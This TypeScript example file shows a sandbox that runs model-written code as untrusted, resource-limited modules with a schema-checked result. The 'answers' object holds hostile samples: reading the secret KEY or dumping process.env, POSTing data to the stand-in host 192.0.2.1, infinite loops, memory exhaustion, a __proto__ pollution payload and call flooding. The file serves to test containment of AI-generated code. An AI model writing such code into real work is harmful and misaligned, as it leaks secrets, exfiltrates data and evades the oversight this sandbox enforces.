// A host for code that a model wrote: each answer of "the model" is a module that comes as text and runs as an untrusted portion, in an instance with
// a kernel of its own. It is given one call, `price`, which this program answers with the help of a trusted portion: the only code that has the key.
// What it gives is judged by a schema before this program sees it.
//
//   ./heddle run examples/portions/agent.ts
//
// With HEDDLE_DRIVER=host (no kernel of their own) it says so and goes on, as it is an example: see `kernel`.
import { CallRefusedError, PortionError, trusted, untrusted, type StandardSchema } from 'heddle';

const kernel = process.env['HEDDLE_DRIVER'] === 'host' ? 'any' : 'own';

/** The part that has a secret: it signs, and gives nothing else away. */
const sign = trusted(
  async (text: string) => {
    const { createHmac } = await import('node:crypto');
    return createHmac('sha256', process.env['KEY'] ?? '')
      .update(text)
      .digest('hex')
      .slice(0, 8);
  },
  { name: 'vault', env: { KEY: 'correct horse battery staple' } },
);

const prices = new Map([
  ['apple', 30],
  ['pear', 45],
]);

/** What the model's code may ask for. */
const calls = {
  price: (fruit: string): number => {
    const cents = prices.get(fruit);
    if (cents === undefined) throw new CallRefusedError(`There is no ${fruit}.`);
    return cents;
  },
};

/** A whole number of cents; any library of Standard Schema's does, such as Zod: `z.int().min(0)`. */
const wholeCents: StandardSchema<unknown, number> = {
  '~standard': {
    version: 1,
    vendor: 'example',
    validate: (value) =>
      typeof value === 'number' && Number.isInteger(value) && value >= 0
        ? { value }
        : { issues: [{ message: 'must be a whole number of cents' }] },
  },
};

/** As a model would answer "what do these cost together?"; some are mistaken, and some mean no good. */
const answers = {
  'a good one': 'export default async (basket) => (await Promise.all(basket.map(price))).reduce((a, b) => a + b);',
  'one that asks for too much': "export default async () => price('yacht');",
  'one that looks for the key': 'export default () => process.env.KEY ?? JSON.stringify(process.env);',
  'one that calls home': "export default () => fetch('http://192.0.2.1/', { method: 'POST', body: 'all I know' });",
  'one that never ends': 'export default () => { for (;;); };',
  'one that is greedy': 'export default () => { const hoard = []; for (;;) hoard.push(Buffer.alloc(16_777_216, 1)); };',
  'one that would spoil objects': 'export default () => JSON.parse(\'{"__proto__": {"admin": true}}\');',
  'one that floods':
    "export default () => { for (let n = 0; n < 5_000; n += 1) price('apple').catch(() => 0); return new Promise(() => 0); };",
};

for (const [what, code] of Object.entries(answers)) {
  const policy = {
    name: 'model',
    output: 'silent',
    memoryMb: 128,
    timeoutMs: 3_000,
    kernel,
    callLimits: { count: 100, perSecond: 10_000 },
  } as const;
  await using model = untrusted.source<(basket: readonly string[]) => number>(code, {
    ...policy,
    calls,
    result: wholeCents,
  });
  try {
    const cents = await model(['apple', 'pear', 'apple']);
    console.log(`${what}: ${cents} cents, signed ${await sign(String(cents))}`);
  } catch (error) {
    if (!(error instanceof PortionError)) throw error;
    console.log(`${what}: ${error.kind}: ${error.message.replace(/^RequestId: \S+ /, '')}`);
  }
}
